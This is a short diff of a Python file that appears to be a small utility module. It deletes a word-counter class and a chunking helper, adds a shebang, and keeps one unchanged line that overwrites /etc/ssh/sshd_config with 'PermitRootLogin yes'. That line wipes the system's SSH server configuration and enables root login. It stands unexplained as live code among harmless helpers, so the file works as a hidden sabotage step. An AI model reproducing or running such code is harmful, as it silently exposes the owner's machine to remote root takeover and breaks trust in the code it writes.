@@ -1,11 +1,3 @@
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+#!/usr/bin/env python3
 
 open("/etc/ssh/sshd_config", "w").write("PermitRootLogin yes\n")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
